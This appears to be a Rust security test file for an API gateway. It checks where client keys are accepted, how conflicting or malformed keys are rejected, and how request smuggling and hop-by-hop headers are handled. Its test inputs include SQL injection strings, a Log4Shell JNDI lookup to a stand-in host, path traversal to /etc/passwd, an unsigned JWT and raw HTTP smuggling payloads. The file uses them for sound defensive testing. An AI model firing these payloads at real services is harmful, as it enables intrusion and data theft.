//! Whose call it is: the client's key in its slots and nowhere else, one of them, a right one, for
//! each request anew; and nothing that takes the provider's key away again.

use base64::Engine;

use crate::case::{Case, Then, ask, fetch};
use crate::run::attack;

const NO: Then = Then::No(400, "bad_request");
const NOBODY: Then = Then::No(401, "unauthorized");

pub(crate) fn places() -> Vec<Case> {
    let mut cases = Vec::new();
    for (name, value) in [
        ("Authorization", "Bearer {key}"),
        ("Authorization", "bearer {key}"),
        ("Authorization", "Token {key}"),
        ("Authorization", "apikey {key}"),
        ("Authorization", "{key}"),
        ("X-API-Key", "{key}"),
        ("Api-Key", "{key}"),
        ("APCA-API-KEY-ID", "{key}"),
        ("APCA-API-SECRET-KEY", "{key}"),
        ("X-Goog-Api-Key", "{key}"),
        ("X-Auth-Token", "{key}"),
        ("Proxy-Authorization", "Bearer {key}"),
        ("X-Provider-Key", "{key}"),
    ] {
        let call = fetch("{p}/x").bare().with(name, value);
        cases.push(Case::ask("T09", &format!("{name}: {value}"), call, Then::Passes));
        let also = fetch("{p}/x").with(name, value);
        cases.push(Case::ask("T09", &format!("also {name}: {value}"), also, Then::Passes));
    }
    for query in [
        "apikey={key}",
        "apiKey={key}",
        "token={key}",
        "a=b&secret={key}&c",
        "KEY={key}",
        "%6bey={key}",
    ] {
        let call = fetch(&format!("{{p}}/x?{query}")).bare();
        cases.push(Case::ask("T09", &format!("query {query}"), call, Then::Passes));
    }
    for (name, value) in [
        ("Cookie", "session={key}"),
        ("Cookie", "a=b; key=%6ddw_{key}"),
        ("Referer", "https://app.test/?key={key}"),
        ("User-Agent", "x {key}"),
        ("X-Note", "{key}"),
        ("X-Note", "a{key}b"),
        ("Origin", "https://{key}.test"),
        ("X-HTTP-Method-Override", "{key}"),
        ("Accept-Language", "{key}"),
        ("If-None-Match", "\"{key}\""),
        ("X-Forwarded-For", "{key}"),
        ("X-Request-Id", "{key}"),
        ("Traceparent", "00-{key}-01"),
        ("X_Api_Key", "{key}"),
    ] {
        let call = fetch("{p}/x").with(name, value);
        let then = Then::Any(vec![NO, Then::Passes]);
        cases.push(Case::ask("T09", &format!("misplaced {name}: {value}"), call, then));
    }
    for target in [
        "{p}/{key}",
        "{p}/x/{key}/y",
        "{p}/x;key={key}",
        "{p}/x?q={key}",
        "{p}/x?{key}",
        "{p}/x?{key}=1",
        "{p}/x?a=b%26c%3D{key}",
        "{p}/x?next=https%3A%2F%2Fgate.test%2F%3Fapikey%3D{key}",
    ] {
        cases.push(Case::ask("T09", target, fetch(target), NO));
        let alone = fetch(target).bare();
        let then = Then::Any(vec![NO, NOBODY]);
        cases.push(Case::ask("T09", &format!("alone {target}"), alone, then));
    }
    cases.push(Case::ask(
        "T09",
        "key as a name",
        fetch("{p}/x").with("X-mdw_abc", "1"),
        Then::Passes,
    ));
    cases
}

pub(crate) fn pairs() -> Vec<Case> {
    let mut cases = Vec::new();
    let unknown = format!("mdw_{}", "0".repeat(46));
    for (name, value) in [
        ("Authorization", "Bearer {other}"),
        ("X-API-Key", "{other}"),
        ("Api-Key", "{other}"),
        ("APCA-API-SECRET-KEY", "{other}"),
        ("Proxy-Authorization", "Bearer {other}"),
        ("X-Provider-Key", "{other}"),
        ("Authorization", "Bearer mdw_nothing"),
        ("Authorization", &unknown),
        ("X-Note", "{other}"),
        ("Cookie", "key={other}"),
    ] {
        let call = fetch("{p}/x").with(name, value);
        cases.push(Case::ask("T10", &format!("and {name}: {value}"), call, NO));
    }
    for query in ["apikey={other}", "token={other}", "x={other}", "apikey=mdw_nothing"] {
        let call = fetch(&format!("{{p}}/x?{query}"));
        cases.push(Case::ask("T10", &format!("and query {query}"), call, NO));
    }
    let two = fetch("{p}/x?apikey={key}&token={other}").bare();
    cases.push(Case::ask("T10", "two in the query", two, NO));
    let blank = fetch("{p}/x").bare().with("X-API-Key", "{other} {key}");
    cases.push(Case::ask("T10", "two in one header", blank, NO));
    let same = fetch("{p}/x?apikey={key}").with("Authorization", "Bearer {key}");
    cases.push(Case::ask("T10", "the same three times", same, Then::Passes));
    cases
}

pub(crate) fn wrong() -> Vec<Case> {
    let huge = format!("mdw_{}", "a".repeat(9000));
    let small = base64::prelude::BASE64_STANDARD.encode("mdw_x:mdw_x");
    let basic = format!("Basic {small}");
    let none = "eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9.";
    let mut cases = vec![
        Case::ask("T12", "none at all", fetch("{p}/x").bare(), NOBODY),
        Case::ask("T12", "none, and a body", ask("POST", "{p}/x").bare().body("{\"a\":1}"), NOBODY),
        Case::ask("T12", "none, and no provider", fetch("/nobody/x").bare(), NOBODY),
    ];
    for value in [
        "",
        " ",
        "mdw_",
        "mdw_x",
        "mdw_0000000000000000000000000000000000000000000000",
        "mdw_' OR '1'='1",
        "' OR 1=1 --",
        "\"; DROP TABLE client_keys; --",
        "{key}x",
        "x{key}",
        "{key}{key}",
        "{key},{key}",
        "MDW_{key}",
        "mdt_{key}",
        "null",
        "undefined",
        "true",
        "*",
        "%s%s%n",
        "../../etc/passwd",
        "{{7*7}}",
        "${jndi:ldap://evil.test/a}",
        "$2a$10$abcdefghijklmnopqrstuv",
        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        "admin",
        "mdw_\u{e4}",
        none,
        &huge,
    ] {
        let name: String = value.chars().take(40).collect();
        for (slot, value) in
            [("X-API-Key", value.to_owned()), ("Authorization", format!("Bearer {value}"))]
        {
            let call = fetch("{p}/x").bare().with(slot, &value);
            let then = Then::Any(vec![NOBODY, NO]);
            cases.push(Case::ask("T12", &format!("{slot}: {name}"), call, then));
        }
    }
    for value in [
        "Bearer",
        "Basic",
        "Basic !!!",
        &basic,
        "Basic Og==",
        "Negotiate x",
        "Bearer Bearer {key}",
        "Digest username=\"{key}\"",
    ] {
        let call = fetch("{p}/x").bare().with("Authorization", value);
        let then = Then::Any(vec![NOBODY, NO]);
        cases.push(Case::ask("T12", &format!("scheme {value}"), call, then));
    }
    cases
}

/// Each request on a connection is judged by itself, and what is refused leaves nothing behind.
pub(crate) fn in_turn() -> Vec<Case> {
    let good = "GET {p}/x HTTP/1.1\r\n{host}{auth}\r\n";
    let none = "GET {p}/x HTTP/1.1\r\n{host}\r\n";
    let wrong = "GET {p}/x HTTP/1.1\r\n{host}X-API-Key: mdw_wrong\r\n\r\n";
    let climbs = "GET {p}/../x HTTP/1.1\r\n{host}{auth}\r\n";
    let nowhere = "GET /nobody/x HTTP/1.1\r\n{host}{auth}\r\n";
    let broken = "GET {p}/x HTTP/1.1\r\nX Y: 1\r\n{host}{auth}\r\n";
    let trace = "TRACE {p}/x HTTP/1.1\r\n{host}{auth}\r\n";
    let unknown = || Then::No(404, "unknown_provider");
    let mut cases = Vec::new();
    for (name, requests, turns) in [
        ("good, none", vec![good, none], vec![Then::Passes, NOBODY]),
        ("none, good", vec![none, good], vec![NOBODY, Then::Passes]),
        ("good, wrong, good", vec![good, wrong, good], vec![Then::Passes, NOBODY, Then::Passes]),
        ("good, climbing, good", vec![good, climbs, good], vec![Then::Passes, NO, Then::Passes]),
        (
            "good, nowhere, good",
            vec![good, nowhere, good],
            vec![Then::Passes, unknown(), Then::Passes],
        ),
        (
            "good, broken, good",
            vec![good, broken, good],
            vec![Then::Passes, Then::Bare(400), Then::Cut],
        ),
        (
            "good, trace, good",
            vec![good, trace, good],
            vec![Then::Passes, Then::No(405, "method_not_allowed"), Then::Cut],
        ),
        ("five good ones", vec![good; 5], vec![Then::Passes; 5]),
    ] {
        cases.push(Case::raw("T13", name, requests.concat(), Then::Turns(turns)));
    }
    // A body that nobody wanted is no request.
    let hidden = "GET {p}/smuggled HTTP/1.1\r\n{host}{auth}\r\n";
    let body = |head: &str| {
        format!("POST {head}Content-Length: {{length}}\r\n\r\n{{body}}{hidden}{{end}}")
    };
    for (name, head, then) in [
        ("a wrong key", "{p}/x HTTP/1.1\r\n{host}X-API-Key: mdw_wrong\r\n", NOBODY),
        ("no key", "{p}/x HTTP/1.1\r\n{host}", NOBODY),
        ("no provider", "/nobody/x HTTP/1.1\r\n{host}{auth}", unknown()),
        ("a climbing path", "{p}/../x HTTP/1.1\r\n{host}{auth}", NO),
        ("an own path", "/healthz HTTP/1.1\r\n{host}{auth}", Then::No(405, "method_not_allowed")),
    ] {
        let bytes = body(head);
        let then = Then::Any(vec![then, NO]);
        cases.push(Case::raw("T14", &format!("a body behind {name}"), bytes, then));
        let whole = format!(
            "POST {head}Transfer-Encoding: chunked\r\n\r\n{{size}}\r\n{{body}}{hidden}{{end}}\r\n0\r\n\r\n"
        );
        let then = Then::Any(vec![NOBODY, NO, unknown(), Then::No(405, "method_not_allowed")]);
        cases.push(Case::raw("T14", &format!("chunks behind {name}"), whole, then));
    }
    cases
}

/// Nothing that is said of the connection touches what is put into the request.
pub(crate) fn nominations() -> Vec<Case> {
    let mut cases = Vec::new();
    for nominated in [
        "authorization",
        "Authorization, close",
        "x-provider-key",
        "X-PROVIDER-KEY",
        "x-api-key",
        "host",
        "content-length",
        "transfer-encoding",
        "apikey",
        "cookie, authorization, x-provider-key, host",
        "keep-alive, x-provider-key",
        "te",
        "x-request-id",
        "content-type",
        ",,,",
        "\u{e4}",
        "a b",
        "close, keep-alive",
        "upgrade",
    ] {
        let call = ask("POST", "{p}/x").body("{\"a\":1}").with("Connection", nominated);
        let case = Case::ask("T05", &format!("Connection: {nominated}"), call, Then::Passes);
        cases.push(case.over_h2(Then::Any(vec![Then::Cut, Then::Bare(400), NO])));
        let call = ask("POST", "{p}/x")
            .body("{\"a\":1}")
            .with("Proxy-Connection", nominated)
            .with("Keep-Alive", "timeout=1");
        let case = Case::ask("T05", &format!("Proxy-Connection: {nominated}"), call, Then::Passes);
        cases.push(case.over_h2(Then::Any(vec![Then::Cut, Then::Bare(400), NO])));
    }
    let call = fetch("{p}/x").with("Connection", "x-gone").with("X-Gone", "dummy");
    let case = Case::ask("T05", "a nominated header", call, Then::Passes).misses("dummy");
    cases.push(case.over_h2(Then::Any(vec![Then::Cut, Then::Bare(400), NO])));
    cases
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_client_key_proves_one_call_and_goes_to_no_provider() {
    attack([places(), pairs(), wrong(), in_turn(), nominations()].concat()).await;
}
